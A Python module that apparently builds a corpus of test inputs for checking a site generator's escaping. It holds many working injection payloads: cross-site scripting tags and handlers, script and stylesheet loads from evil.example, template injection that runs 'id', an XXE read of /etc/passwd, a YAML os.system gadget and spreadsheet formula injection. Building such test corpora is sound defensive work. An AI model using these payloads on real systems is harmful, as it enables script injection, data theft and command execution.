"""Texts that would run something, fetch something or break out of where they stand, if a page showed them carelessly.

The classes are those of the public cheat sheets on cross-site scripting (OWASP's, PortSwigger's), and those that this
generator invites: DOT, Markdown, templates, tables for a spreadsheet, feeds. Each text calls `HIT`, or asks `EVIL` for something.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from itertools import product
from typing import Final

HIT: Final = "okrHit(1)"
EVIL: Final = "https://evil.example"

_HANDLERS: Final = (
    "onload",
    "onerror",
    "onclick",
    "onmouseover",
    "onfocus",
    "onbegin",
    "ontoggle",
    "onanimationstart",
    "onpageshow",
)
_TAGS: Final = (
    "img src=x",
    "svg",
    "body",
    "video src=x",
    "input autofocus",
    "details open",
    "marquee",
    "a href=#",
    "x-own contenteditable",
)
_SCHEMES: Final = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "&#106;avascript:", "&#x6A;avascript:", "javascript&colon;",
    " javascript:", "\u00a0javascript:", "vbscript:", "data:text/html,<script>", "data:text/html;base64,PHNjcmlwdD4=", "livescript:",
    "feed:javascript:", "view-source:javascript:", "jar:javascript:", "blob:javascript:", "//evil.example/", "\\\\evil.example\\", "/\\evil.example/",
)  # fmt: skip


def _scripts() -> Iterator[str]:
    yield from (
        f"<script>{HIT}</script>", f"<ScRiPt>{HIT}</sCrIpT>", f"<script src={EVIL}/x.js></script>", f"<script>{HIT}//", f"<<script>{HIT}//<</script>",
        f"<script/x>{HIT}</script>", f"<script\n>{HIT}</script\n>", f"<scr<script>ipt>{HIT}</scr</script>ipt>", f"<script type=module>import '{EVIL}/x.js'</script>",
        f"</script><script>{HIT}</script>", f"</title><script>{HIT}</script>", f"</textarea><script>{HIT}</script>", f"</style><script>{HIT}</script>",
        f"</noscript><script>{HIT}</script>", f"<!--><script>{HIT}</script>-->", f"--><script>{HIT}</script><!--", f"]]><script>{HIT}</script>",
        f"<![CDATA[<script>{HIT}</script>]]>", f"<template><script>{HIT}</script></template>", f"<script>/*</title>*/{HIT}</script>",
        f"<script charset=utf-7>+ADw-script+AD4-{HIT}</script>", f'<noscript><p title="</noscript><img src=x onerror={HIT}>">',
    )  # fmt: skip


def _handlers() -> Iterator[str]:
    for tag, handler in product(_TAGS, _HANDLERS):
        yield f"<{tag} {handler}={HIT}>"
    for quote in ('"', "'", "`"):
        yield f"{quote} autofocus onfocus={HIT} x={quote}"
        yield f"{quote}><img src=x onerror={HIT}>"
        yield f"<img src={quote}x{quote}onerror={quote}{HIT}{quote}>"
    yield from (
        f"<img/src=x/onerror={HIT}>",
        f"<img src=x onerror\n={HIT}>",
        f"<img src=x \x0conerror={HIT}>".replace("\x0c", " "),
        f"<IMG SRC=x ONERROR={HIT}>",
    )


def _links() -> Iterator[str]:
    for scheme in _SCHEMES:
        yield f"[read on]({scheme}{HIT})"
        yield f'<a href="{scheme}{HIT}">read on</a>'
    yield from (
        f"[a]: javascript:{HIT}\n\n[a]", f"[read][1]\n\n[1]: <javascript:{HIT}>", f"![x](javascript:{HIT})", f"![x]({EVIL}/x.png)", f'![x" onerror="{HIT}](x.png)',
        f'[x](https://a.example "\\" onmouseover=\\"{HIT}")', f"<javascript:{HIT}>", f"[x](<javascript:{HIT}>)", f"[x](java\\script:{HIT})", f"[<img src=x onerror={HIT}>](https://a.example)",
        f"[x](https://a.example'onclick='{HIT})", f"[x](  javascript:{HIT})", f"[![x](javascript:{HIT})](javascript:{HIT})", f"![]({EVIL}/pixel.gif?{HIT})",
        f'<https://a.example/"onclick="{HIT}>', f"[x]({EVIL}\\@a.example)", f'[x](#" onclick="{HIT})', f"`<script>{HIT}</script>`", f'```"><script>{HIT}</script>\nx\n```',
        f"~~~ {{.x onclick={HIT}}}\nx\n~~~", f"# x {{: onclick={HIT} }}", f"x{{: onclick={HIT} }}", f"| a |\n|---|\n| <img src=x onerror={HIT}> |", f"term\n: <svg onload={HIT}>",
        f"[^1]\n\n[^1]: <script>{HIT}</script>", f'*[HTML]: "><script>{HIT}</script>\nHTML', f'!!! note "<script>{HIT}</script>"\n    x', f'--8<-- "/etc/passwd" {HIT}',
    )  # fmt: skip


def _pictures() -> Iterator[str]:
    yield from (
        f"<svg><script>{HIT}</script></svg>", f"<svg><script xlink:href={EVIL}/x.js /></svg>", f"<svg><animate onbegin={HIT} attributeName=x dur=1s>", f"<svg><set attributeName=onmouseover to={HIT}>",
        f"<svg><a xlink:href=javascript:{HIT}><text y=20>x</text></a></svg>", f"<svg><use href={EVIL}/x.svg#a></use></svg>", f"<svg><use href=data:image/svg+xml,<svg id=a onload={HIT}>#a>",
        f"<svg><foreignObject><iframe srcdoc='<script>parent.{HIT}</script>'></foreignObject></svg>", f"<svg><image href={EVIL}/x.png></svg>", f"<svg><style>@import '{EVIL}/x.css'</style></svg>",
        f"<svg><title><img src=x onerror={HIT}></title></svg>", f"</text><script>{HIT}</script>", f"</desc></svg><script>{HIT}</script>", f"</title></svg><img src=x onerror={HIT}>",
        f"<svg><feImage href={EVIL}/x.png /></svg>", f"<svg><discard onbegin={HIT}>", f"<svg/onload={HIT}//", f"<svg><handler xmlns:ev=x ev:event=load>{HIT}</handler></svg>",
        f"<math><a xlink:href=javascript:{HIT}>x</a></math>", f'<math><mi//xlink:href="data:x,<script>{HIT}</script>">', f"<math><maction actiontype=statusline#{EVIL} xlink:href=javascript:{HIT}>x</maction></math>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={HIT}>", f"<math><annotation-xml encoding=text/html><script>{HIT}</script></annotation-xml></math>", f"<form><math><mtext></form><form><mglyph><svg><mtext><style><path id=</style><img onerror={HIT} src=x>",
    )  # fmt: skip


def _frames() -> Iterator[str]:
    yield from (
        f"<iframe src=javascript:parent.{HIT}></iframe>", f'<iframe srcdoc="<script>parent.{HIT}</script>">', f"<iframe src={EVIL}>", f"<object data=javascript:{HIT}>", f"<object data={EVIL}/x.swf>",
        f"<embed src=javascript:{HIT}>", f"<embed src={EVIL}/x>", f"<base href={EVIL}/>", f"<link rel=stylesheet href={EVIL}/x.css>", f"<link rel=import href={EVIL}/x.html>", f"<link rel=preload as=script href={EVIL}/x.js>",
        f'<meta http-equiv=refresh content="0;url=javascript:{HIT}">', f'<meta http-equiv=refresh content="0;url={EVIL}">', f"<form action=javascript:{HIT}><button>x", f"<button formaction=javascript:{HIT}>x",
        f"<isindex type=image src=1 onerror={HIT}>", f"<portal src={EVIL}>", f"<applet code={EVIL}/x.class>", f"<frameset onload={HIT}>", f"<frame src=javascript:{HIT}>", f"<style>@import url({EVIL}/x.css);</style>",
        f"<style>body{{background:url({EVIL}/x)}}</style>", f'<p style="background:url({EVIL}/x)">x', f'<div style="width:expression({HIT})">', '<div style="position:fixed;inset:0;z-index:9999">', f"<input type=image src={EVIL}/x.png>",
        f"<video poster={EVIL}/x.png>", f"<audio src={EVIL}/x.mp3 autoplay>", f"<source srcset={EVIL}/x.png>", f'<img srcset="{EVIL}/x.png 1x">', f"<picture><source srcset={EVIL}/x.png><img></picture>", f"<track src={EVIL}/x.vtt>",
        f"<a ping={EVIL} href=#>x</a>", f"<body background={EVIL}/x.png>", f"<table background={EVIL}/x.png>", f"<bgsound src={EVIL}/x>", f"<dialog open onclose={HIT}>x", f"<slot onslotchange={HIT}>",
    )  # fmt: skip


def _entities() -> Iterator[str]:
    yield from (
        f"&lt;script&gt;{HIT}&lt;/script&gt;", f"&#60;script&#62;{HIT}&#60;/script&#62;", f"&#x3C;script&#x3E;{HIT}&#x3C;/script&#x3E;", f"&amp;lt;script&amp;gt;{HIT}", f"&lt&#115cript>{HIT}", f"%3Cscript%3E{HIT}%3C/script%3E",
        f"\\u003cscript\\u003e{HIT}", f"\\x3cscript\\x3e{HIT}", f"&#0000060script&#0000062{HIT}", f"\uff1cscript\uff1e{HIT}\uff1c/script\uff1e", f"&quot;&gt;&lt;img src=x onerror={HIT}&gt;", f"&NewLine;javascript&colon;{HIT}",
        f"\u2039script\u203a{HIT}", f"&lt;img src=x onerror={HIT}&gt;", f"&#34; onmouseover=&#34;{HIT}", f"&bne;&fjlig;&lt;b&gt;{HIT}",
    )  # fmt: skip


def _unclosed() -> Iterator[str]:
    yield from (
        "<", "</", "<!", "<!--", "<![CDATA[", "<?php", '<a href="', "<a href='", '<img src="x', "<div", "</div></div></div></div></div></article></main></body></html>", "<textarea>", "<title>", "<noscript>", "<xmp>",
        "<plaintext>", "<select><option>", "<table><tr>", "<style>", "<iframe>", "<math>", "<svg>", "</p></li></ul></td></tr></table>", "-->", "--!>", "]]>", "<details>", "<button>", "<a", "<b <i", "<p/<", "<img src=x onerror=",
    )  # fmt: skip


def _templates() -> Iterator[str]:
    yield from (
        "{{ 7*7 }}", "{{ config }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{% raw %}", "{% endraw %}", "{% include '/etc/passwd' %}", "{# x #}", "{% for x in range(10**9) %}", "{{ self.__init__.__globals__ }}", "${7*7}", "#{7*7}",
        "<%= 7*7 %>", "<% exec('id') %>", "@{7*7}", "*{7*7}", "%{7*7}", "$(id)", "`id`", "{{constructor.constructor('okrHit(1)')()}}", "[[${7*7}]]", "{{= 7*7 }}", "{$x}", "%s %d %(name)s", "{0.__class__}", "{name}", "{most}", "{}", "\\N \\G \\E \\T",
        "OkrpressSlotTitle", "<!--OkrpressSlotContent <h1-->", "OkrpressSlotBranch OkrpressAnchorLeaf", "okrfunitlogisticsz",
    )  # fmt: skip


def _drawings() -> Iterator[str]:
    yield from (
        '"]; x [label="y', '"; } digraph x { a -> b [label="', f'", URL="javascript:{HIT}', f'" URL="javascript:{HIT}" x="', "<<B>x</B>>", f'<<TABLE HREF="javascript:{HIT}"><TR><TD>x</TD></TR></TABLE>>',
        f'<<IMG SRC="{EVIL}/x.png"/>>', '<<IMG SRC="/etc/passwd"/>>', '\\"', "\\", "\\\\", "\\n\\l\\r", 'a\\"]; b [image="/etc/passwd"]; c [label="', "} }", "/* x", "// x", "# x", "a:b:c", "a->b", "subgraph cluster_x {", "strict digraph {",
        "node [shape=box]", "graph [bgcolor=red]", "edge", '""', "<>", "%%", "&amp;&#0;", f"label=<{HIT}>",
    )  # fmt: skip


def _tables() -> Iterator[str]:
    yield from (
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", f'=HYPERLINK("{EVIL}";"x")', f'=IMPORTXML("{EVIL}";"//a")', "\t=1+1", '"=1+1', '=1+1","=2', 'a",=1+1,"b', "＝1+1", "%0A=1+1", "=\u200b1+1", 'DDE("cmd")',
    )  # fmt: skip


def _unicode() -> Iterator[str]:
    yield from (
        "user\u202etxt.exe", "\u2066x\u2069", "\u202dx\u202c", "\u200bzero\u200bwidth", "\ufeffmark", "soft\u00adhyphen", "\u2028line\u2029paragraph", "e" + "\u0301" * 60, "\U000e0041\U000e0042 tags", "\u180e\u061c", "\u0430\u0440\u0440\u04cf\u0435",
        "\ufff9a\ufffab\ufffb", "\ufdfd" * 20, "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 10, "\u0600\u06dd", "a\u0332\u0333\u034f", "𝕊𝕔𝕣𝕚𝕡𝕥", "ﬁ ſcript", "İ ı K Å", "\u3164\u115f\u1160",
    )  # fmt: skip


def _data() -> Iterator[str]:
    yield from (
        f'</script><script>{HIT}</script>{{"a":1}}', '"}]}<!--<script>', "\\u2028\\u2029", "__proto__", "constructor", "toString", f"'-{HIT}-'", f'"-{HIT}-"', f'\\";{HIT}//', f"\\';{HIT}//", f"*/{HIT}/*", f"//{HIT}", "]]></content><entry>",
        "BEGIN:VCALENDAR\nEND:VEVENT", "SUMMARY:x\\nATTACH:https://evil.example", ";X-A=1:x", '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>&a;', "&a;", "--okr\n---\ntitle: x", "---", "...", "!!python/object/apply:os.system [id]",
        "<form name=document><input name=body>", "<img name=currentScript id=__config>", "<a id=location href=x>", "<input id=__search>", "<p id=okr-data class=md-search>", "::error file=x,line=1::x", "%0A::warning::x", "@everyone @acme/all", "<!-- okrpress -->",
    )  # fmt: skip


CLASSES: Final[Mapping[str, tuple[str, ...]]] = {
    "script elements": tuple(_scripts()),
    "event handlers": tuple(_handlers()),
    "links and Markdown": tuple(_links()),
    "SVG and MathML": tuple(_pictures()),
    "frames, styles and what fetches": tuple(_frames()),
    "entities and encodings": tuple(_entities()),
    "unclosed and closing tags": tuple(_unclosed()),
    "template syntax": tuple(_templates()),
    "DOT and HTML labels": tuple(_drawings()),
    "spreadsheet formulas": tuple(_tables()),
    "Unicode": tuple(_unicode()),
    "data formats and names": tuple(_data()),
}

PAYLOADS: Final = tuple(text for texts in CLASSES.values() for text in texts)
